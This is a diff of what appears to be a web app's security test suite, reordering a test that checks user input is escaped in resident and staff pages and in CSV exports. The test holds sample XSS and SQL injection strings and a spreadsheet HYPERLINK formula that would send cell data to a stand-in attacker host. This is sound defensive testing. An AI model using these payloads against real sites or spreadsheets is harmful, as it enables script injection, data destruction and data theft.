@@ -152,6 +152,55 @@ for (const kind of serverDatabaseKinds()) {
       await database?.drop();
     });
 
+    // First: the hostile run's failed sign-ins would (rightly) trip the sign-in throttle for 127.0.0.1.
+    it("stores injection strings typed as free text as text, and renders them escaped on resident and staff pages and exports", async () => {
+      const base = app!.url;
+      const payload = `<script>alert("x")</script><img src=x onerror=alert(1)>' OR 1=1; DROP TABLE answers; -- \u202e ${"😀"}`;
+      const formula = `=HYPERLINK("http://evil.example/?"&A1,"Click")<b>bold</b>`;
+      const resident = new Resident(base);
+      const token = await prepareResponse(resident, payload);
+      const page = await resident.request("GET", `/consultations/${PRECEPT_SLUG}/check`);
+      expect(page.body).not.toContain("<script>alert");
+      expect(page.body).not.toContain("<img src=x");
+      expect(page.body).toContain("&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;");
+      expect(acknowledged(await resident.submit(PRECEPT_SLUG, token))).toBe(true);
+      const spreadsheet = new Resident(base);
+      expect(acknowledged(await spreadsheet.submit(PRECEPT_SLUG, await prepareResponse(spreadsheet, formula)))).toBe(true);
+
+      // Staff read written answers on a page and download them: escaped in HTML, quoted and
+      // defused (no formula) in CSV.
+      const probe = database.open();
+      const { id } = await probe.db.selectFrom("consultations").select("id").where("slug", "=", PRECEPT_SLUG).executeTakeFirstOrThrow();
+      await probe.close();
+      const cookie = await staffSession(base, database.url, "analyst");
+      const text = await fetch(`${base}/staff/consultations/${id}/results/text/comments`, { headers: { cookie } });
+      expect(text.status).toBe(200);
+      const html = await text.text();
+      expect(html).toContain("&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;");
+      expect(html).toContain("&lt;b&gt;bold&lt;/b&gt;");
+      expect(html).not.toContain("<script>alert");
+      expect(html).not.toContain("<b>bold</b>");
+      const csv = await fetch(`${base}/staff/consultations/${id}/export/responses.csv`, { headers: { cookie } });
+      expect(csv.status).toBe(200);
+      const rows = parse(await csv.text(), { relax_column_count: true }) as string[][];
+      const cells = rows.flat();
+      expect(cells).toContain(payload);
+      expect(cells).toContain(`'${formula}`);
+      expect(cells.some((c) => /^[=+\-@\t\r]/.test(c) && c.includes("HYPERLINK"))).toBe(false);
+      // A NUL character is refused with a clear message rather than breaking the database.
+      const nul = new Resident(base);
+      await nul.start(PRECEPT_SLUG);
+      const refused = await nul.request("POST", `/consultations/${PRECEPT_SLUG}/questions/priorities`, [["investment", "none"], ["asb_priority", "high\u0000"]]);
+      expect(refused.status).toBe(400);
+      expect(refused.body).toMatch(/null character/);
+      const handle = database.open();
+      try {
+        expect((await markerCounts(handle)).get(payload)).toBe(1);
+      } finally {
+        await handle.close();
+      }
+    });
+
     it(`answers ${REQUESTS} hostile requests with 4xx (never 5xx), stays up and changes nothing`, { timeout: 240_000 }, async () => {
       const base = app!.url;
       const handle = database.open();
@@ -216,54 +265,6 @@ for (const kind of serverDatabaseKinds()) {
       expect(check.halfWritten).toEqual([]);
       expect(check.countMismatches).toEqual([]);
       await handle.close();
-    });
-
-    it("stores injection strings typed as free text as text, and renders them escaped on resident and staff pages and exports", async () => {
-      const base = app!.url;
-      const payload = `<script>alert("x")</script><img src=x onerror=alert(1)>' OR 1=1; DROP TABLE answers; -- \u202e ${"😀"}`;
-      const formula = `=HYPERLINK("http://evil.example/?"&A1,"Click")<b>bold</b>`;
-      const resident = new Resident(base);
-      const token = await prepareResponse(resident, payload);
-      const page = await resident.request("GET", `/consultations/${PRECEPT_SLUG}/check`);
-      expect(page.body).not.toContain("<script>alert");
-      expect(page.body).not.toContain("<img src=x");
-      expect(page.body).toContain("&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;");
-      expect(acknowledged(await resident.submit(PRECEPT_SLUG, token))).toBe(true);
-      const spreadsheet = new Resident(base);
-      expect(acknowledged(await spreadsheet.submit(PRECEPT_SLUG, await prepareResponse(spreadsheet, formula)))).toBe(true);
-
-      // Staff read written answers on a page and download them: escaped in HTML, quoted and
-      // defused (no formula) in CSV.
-      const probe = database.open();
-      const { id } = await probe.db.selectFrom("consultations").select("id").where("slug", "=", PRECEPT_SLUG).executeTakeFirstOrThrow();
-      await probe.close();
-      const cookie = await staffSession(base, database.url, "analyst");
-      const text = await fetch(`${base}/staff/consultations/${id}/results/text/comments`, { headers: { cookie } });
-      expect(text.status).toBe(200);
-      const html = await text.text();
-      expect(html).toContain("&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;");
-      expect(html).toContain("&lt;b&gt;bold&lt;/b&gt;");
-      expect(html).not.toContain("<script>alert");
-      expect(html).not.toContain("<b>bold</b>");
-      const csv = await fetch(`${base}/staff/consultations/${id}/export/responses.csv`, { headers: { cookie } });
-      expect(csv.status).toBe(200);
-      const rows = parse(await csv.text(), { relax_column_count: true }) as string[][];
-      const cells = rows.flat();
-      expect(cells).toContain(payload);
-      expect(cells).toContain(`'${formula}`);
-      expect(cells.some((c) => /^[=+\-@\t\r]/.test(c) && c.includes("HYPERLINK"))).toBe(false);
-      // A NUL character is refused with a clear message rather than breaking the database.
-      const nul = new Resident(base);
-      await nul.start(PRECEPT_SLUG);
-      const refused = await nul.request("POST", `/consultations/${PRECEPT_SLUG}/questions/priorities`, [["investment", "none"], ["asb_priority", "high\u0000"]]);
-      expect(refused.status).toBe(400);
-      expect(refused.body).toMatch(/null character/);
-      const handle = database.open();
-      try {
-        expect((await markerCounts(handle)).get(payload)).toBe(1);
-      } finally {
-        await handle.close();
-      }
     });
   });
 }
